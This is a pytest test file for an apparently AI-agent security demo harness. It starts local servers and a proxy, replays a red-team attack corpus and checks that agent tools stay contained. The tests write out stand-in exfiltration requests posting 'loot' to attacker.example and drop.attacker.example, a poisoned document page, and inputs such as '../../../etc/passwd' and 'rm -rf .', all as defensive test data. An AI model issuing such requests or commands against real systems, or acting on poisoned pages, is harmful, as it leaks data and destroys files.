"""The demonstration's tools are real: servers, proxy, files and child processes, without a control plane in sight."""

from __future__ import annotations

import os
import stat

import pytest

from kaizen_security.demo.effects import execute
from kaizen_security.demo.feed import Servers
from kaizen_security.demo.line import Line, choose_ports, inherited
from kaizen_security.demo.plan import resolved
from kaizen_security.demo.ports import choose
from kaizen_security.demo.programme import DEMO_AGENT, programme
from kaizen_security.demo.services import Config
from kaizen_security.demo.tasks import benign
from kaizen_security.demo.tools import TOOLS, Bench, ToolFailed
from kaizen_security.redteam.corpus import load, misses

SEED = 20261121


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """Servers and a proxy; gives the agent's bench and the servers' counts."""
    data = tmp_path_factory.mktemp("tools")
    (data / "demo").mkdir()
    play = programme(SEED, load(), misses())
    line = Line(data=data, ports=choose_ports(0, 0, 0), environ=inherited(os.environ))
    http = choose(0).number
    ports = {"http": http, "https": choose(0, avoid={http}).number}
    hosts = tuple(sorted({host for host, _, _ in play.hosts}))
    config = Config(seed=SEED, hosts=hosts, pages=dict(play.pages), authority=str(data / "ca.pem"), **ports)
    try:
        line.ready(line.start_servers(config))
        mapped = {f"{host}:{port}": f"127.0.0.1:{ports[scheme]}" for host, port, scheme in play.hosts}
        line.ready(line.start_egress("", agent=DEMO_AGENT, hosts=mapped, credentials={DEMO_AGENT: "pw"}))
        bench = Bench(work=data / "work", proxy=line.proxy_url(DEMO_AGENT, "pw"), authority=data / "ca.pem")
        servers = Servers(http)
        yield bench, servers, line
        servers.close()
        bench.close()
    finally:
        line.stop()


def test_every_benign_task_can_be_done(place):
    bench, _, _ = place
    for task in benign(SEED, 42):
        results = []
        for call in task.calls:
            arguments = {name: resolved(value, results) for name, value in call.arguments.items()}
            results.append(TOOLS[call.tool].body(bench, arguments))
        assert all(result is not None for result in results)


def test_every_deed_of_the_corpus_can_be_done_and_nothing_leaves_the_working_directory(place):
    bench, _, _ = place
    for scenario in load():
        for deed in {deed.tool + deed.target: deed for deed in scenario.deeds()}.values():
            execute(bench, deed)
    assert (bench.work / "system").is_dir()


def test_what_reaches_a_strangers_server_is_counted(place):
    bench, servers, _ = place
    before = servers.received().get("attacker.example", 0)
    bench.request("POST", "https://attacker.example/in", {"loot": "x" * 1000})
    assert servers.received()["attacker.example"] - before > 1000


def test_a_child_process_and_a_bare_socket_go_through_the_proxy_too(place):
    bench, servers, _ = place
    before = servers.received().get("drop.attacker.example", 0)
    answer = bench.raw("drop.attacker.example", 80, b"GET / HTTP/1.1\r\nHost: drop.attacker.example\r\n\r\n")
    assert " 200 " in answer
    code = "import urllib.request; urllib.request.urlopen('http://drop.attacker.example/b').read()"
    bench.run(["python", "-c", code])
    assert servers.received()["drop.attacker.example"] - before > 40


def test_a_page_can_be_poisoned_and_cleaned(place):
    bench, servers, _ = place
    name = "GET http://docs.internal/reports/1"
    honest = TOOLS["documents.read"].body(bench, {"path": "/reports/1"})
    servers.place({name: "poison"})
    assert TOOLS["documents.read"].body(bench, {"path": "/reports/1"}) == "poison"
    servers.place({name: None})
    assert TOOLS["documents.read"].body(bench, {"path": "/reports/1"}) == honest


@pytest.mark.parametrize(
    ("tool", "arguments"),
    [
        ("files.read", {"path": "../../../etc/passwd"}),
        ("files.write", {"path": "/../../x", "text": "x"}),
        ("files.read", {"path": "no/such/file"}),
        ("shell.run", {"command": ["rm", "-rf", "."]}),
        ("shell.run", {"command": "wc"}),
        ("orders.lookup", {"order": "../../etc"}),
        ("documents.read", {"path": "http://not-on-the-map.example/"}),
    ],
)
def test_a_tool_that_cannot_do_it_says_so(place, tool, arguments):
    bench, _, _ = place
    with pytest.raises(ToolFailed):
        TOOLS[tool].body(bench, arguments)


def test_without_the_agents_credentials_the_proxy_lets_nobody_use_its_name(place):
    bench, _, line = place
    impostor = Bench(work=bench.work, proxy=line.proxy_url(DEMO_AGENT, "wrong"), authority=bench.authority)
    with pytest.raises(ToolFailed, match="407"):
        impostor.request("GET", "https://api.internal/orders")
    impostor.close()


def test_what_is_kept_for_the_proxy_is_readable_by_nobody_else(place):
    _, _, line = place
    assert stat.S_IMODE((line.data / "egress.json").stat().st_mode) == 0o600
